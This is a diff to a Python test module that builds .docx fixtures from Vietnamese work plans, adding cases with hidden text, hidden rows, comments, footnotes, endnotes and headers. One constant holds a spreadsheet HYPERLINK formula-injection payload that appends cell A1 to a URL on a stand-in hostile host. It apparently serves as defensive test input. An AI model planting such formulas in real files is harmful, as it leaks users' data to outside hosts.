@@ -3,12 +3,14 @@
 import unicodedata
 
 import docx
+from docx.enum.style import WD_STYLE_TYPE
 from docx.oxml import parse_xml
 from docx.oxml.ns import nsdecls
 
 from tests.plans.corpus import base
 from tests.plans.corpus.base import FIRST, HEADINGS, ROWS, SECOND, changed
-from tests.plans.documents import fill, saved
+from tests.plans.documents import fill, repacked, saved
+from tests.plans.marked import element
 
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 INJECTION = '=HYPERLINK("http://xau.example/?" & A1, "Bấm vào đây")'
@@ -106,6 +108,60 @@ def text_box():
         "</w:pict></w:r></w:p>"
     )
     document.element.body.insert(0, parse_xml(box))
+    return saved(document)
+
+
+def hidden_text():
+    """Words in a task's cell and a whole paragraph."""
+    document = plan()
+    task, basis = document.tables[-1].cell(1, 1).paragraphs[0], document.paragraphs[2]
+    for paragraph, text in ((task, " (chờ ý kiến)"), (basis, " (bỏ)")):
+        paragraph.add_run(text).font.hidden = True
+    return saved(document)
+
+
+def hidden_by_style():
+    """As a text copied from a web page has it: a style that is based on a hidden one."""
+    document = plan()
+    parent = document.styles.add_style("z-Top of Form", WD_STYLE_TYPE.PARAGRAPH)
+    parent.font.hidden = True
+    child = document.styles.add_style("z-Bottom of Form", WD_STYLE_TYPE.PARAGRAPH)
+    child.base_style = parent
+    document.tables[-1].cell(1, 1).add_paragraph("Đầu biểu mẫu", child)
+    return saved(document)
+
+
+def hidden_rows():
+    document = plan([HEADINGS, FIRST, SECOND, changed(SECOND, number="3", content="Việc đang ẩn"), ("",) * 6])
+    for row in document.tables[-1].rows[3:]:
+        row._tr.get_or_add_trPr().append(element("w:hidden"))
+    return saved(document)
+
+
+def comments():
+    document = plan()
+    document.add_comment(document.tables[-1].cell(1, 1).paragraphs[0].runs, "Chuyển sang quý III?", "Lan")
+    return saved(document)
+
+
+def notes(kind):
+    """A note to a task, one to the text, and one without words."""
+    document = plan()
+    cell = document.tables[-1].cell(1, 1).paragraphs[0]
+    for number, paragraph in enumerate((cell, cell, document.paragraphs[2]), start=1):
+        paragraph.add_run()._r.append(element(f"w:{kind}Reference", id=number))
+    texts = enumerate((" ", "Theo Quyết định 766", "Bổ sung"), start=1)
+    written = "".join(
+        f'<w:{kind} w:id="{number}"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:{kind}>' for number, text in texts
+    )
+    part = f'<w:{kind}s xmlns:w="{WORD}"><w:{kind} w:id="-1" w:type="separator"/>{written}</w:{kind}s>'
+    return repacked(saved(document), add={f"word/{kind}s.xml": part.encode()})
+
+
+def header_and_footer():
+    document = plan()
+    section = document.sections[0]
+    section.header.paragraphs[0].text, section.footer.paragraphs[0].text = "2", "Kế hoạch KSTTHC"
     return saved(document)
 
 
@@ -252,6 +308,13 @@ FILES = {
     "groups in two cells.docx": groups_in_two_cells,
     "nested table.docx": nested_table,
     "text box.docx": text_box,
+    "hidden text.docx": hidden_text,
+    "hidden by its style.docx": hidden_by_style,
+    "hidden rows.docx": hidden_rows,
+    "comments.docx": comments,
+    "footnotes.docx": lambda: notes("footnote"),
+    "endnotes.docx": lambda: notes("endnote"),
+    "header and footer.docx": header_and_footer,
     "tracked changes.docx": tracked_changes,
     "no table at all.docx": no_table,
     "tables of something else.docx": tables_of_something_else,
